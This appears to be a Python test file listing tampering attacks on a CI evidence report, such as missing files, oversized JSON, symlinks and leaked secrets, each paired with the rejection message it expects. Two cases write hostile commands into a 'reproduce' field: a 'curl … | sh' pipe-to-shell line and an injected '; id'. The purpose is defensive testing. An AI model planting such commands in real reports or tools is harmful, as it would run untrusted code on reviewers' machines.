"""Reports of gates that a hostile engine could leave."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

from metainfer.files import pretty_json
from tests.ci.attacks import TOKEN, attack, edit_evidence
from tests.ci.repositories import ENGINE, Scene, green_evidence


@attack("evidence.json: is missing")
def no_evidence(scene: Scene, report: Path) -> None:
    (report / "evidence.json").unlink()


@attack("is for other inputs than the bundle")
def evidence_of_another_engine(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("input_hash", "0" * 64))


@attack("two reports of the gate numerics")
def a_gate_reported_twice(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"].append({**e["gates"][3], "verdict": "failed"}))


@attack("there is no gate")
def a_gate_that_is_not_ours(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"].append({**e["gates"][3], "gate": "blessing"}))


@attack("passed, and has findings")
def a_pass_with_findings(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][2].__setitem__("findings", [{"message": "wrong"}]))


@attack("none of metainfer's")
def a_command_to_be_typed_by_a_reviewer(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][0].__setitem__("reproduce", "curl https://example.org/x | sh"))


@attack("none of metainfer's")
def a_command_hidden_behind_ours(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][0].__setitem__("reproduce", f"metainfer gate spec engines/{ENGINE}; id"))


@attack("a text of 5000 characters")
def a_long_text(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", "x" * 5000))


@attack("deeper nested")
def a_deep_report(scene: Scene, report: Path) -> None:
    nested: Any = 1
    for _ in range(40):
        nested = [nested]
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", nested))


@attack("beyond 1048576 bytes a file")
def a_large_report(scene: Scene, report: Path) -> None:
    (report / "evidence.json").write_bytes(b" " * ((1 << 20) + 1))


@attack("Extra inputs are not permitted")
def a_report_with_one_more_key(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("verdict", "green"))


@attack("goals and benchmark do not belong together")
def a_performance_gate_without_a_benchmark(scene: Scene, report: Path) -> None:
    gate = green_evidence("0" * 64).gates[0].model_dump()
    gate |= {"gate": "performance", "reproduce": f"metainfer bench engines/{ENGINE}"}
    edit_evidence(report, lambda e: e["gates"].append(gate))


@attack("not a benchmark's report|Field required")
def a_benchmark_that_is_none(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("bench", {"engine": ENGINE}))
    (report / "bench.json").write_bytes(pretty_json({"engine": ENGINE}))


@attack("knows of no benchmark")
def a_benchmark_beside_evidence_without_one(scene: Scene, report: Path) -> None:
    (report / "bench.json").write_bytes(b"{}")


@attack("optimises nothing")
def an_optimisation(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("optimise", {"words": "x"}))


@attack("no such file belongs here")
def an_engine_in_the_report(scene: Scene, report: Path) -> None:
    (report / "model.py").write_bytes(b"x")


@attack("a symbolic link")
def a_report_that_is_a_link(scene: Scene, report: Path) -> None:
    (report / "evidence.json").rename(report.parent / "evidence.json")
    (report / "evidence.json").symlink_to(report.parent / "evidence.json")


@attack("looks like a GitHub token")
def a_secret_in_the_report(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][0]["figures"].__setitem__("note", TOKEN))


@attack("looks like a private key")
def a_private_key_in_the_report(scene: Scene, report: Path) -> None:
    key = "-----BEGIN OPENSSH PRIVATE KEY-----"
    edit_evidence(report, lambda e: e["gates"][0]["figures"].__setitem__("note", key))


@attack("looks like a secret in an assignment")
def an_assigned_secret_in_the_report(scene: Scene, report: Path) -> None:
    text = "api_key = 'q8Zt3LxW0vBn7Ks2Yd5Rf9Hc1Mj6Gp4U'"
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", text))


@attack("holds the value of METAINFER_GITHUB_TOKEN")
def the_jobs_own_token(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", "plain-looking-words"))


@attack("holds the value of METAINFER_GITHUB_TOKEN")
def the_jobs_own_token_in_base_64(scene: Scene, report: Path) -> None:
    hidden = base64.b64encode(b"see: plain-looking-words!").decode()
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", hidden))
